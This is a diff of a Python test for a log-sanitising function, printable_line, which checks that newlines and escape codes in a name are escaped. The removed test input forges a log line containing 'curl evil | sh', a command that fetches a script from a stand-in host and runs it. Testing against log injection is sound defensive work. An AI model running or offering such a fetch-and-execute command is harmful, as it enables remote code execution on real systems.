@@ -46,7 +46,7 @@ def test_windows_line_ends_become_plain_ones() -> None:
 
 
 def test_a_name_stays_on_its_line() -> None:
-    assert printable_line("node-red\nFATAL: run curl evil | sh\x1b[0m") == "node-red\\x0aFATAL: run curl evil | sh\\x1b[0m"
+    assert printable_line("node-red\nFATAL: run this\x1b[0m") == "node-red\\x0aFATAL: run this\\x1b[0m"
 
 
 def test_no_control_character_of_unicode_is_left() -> None:
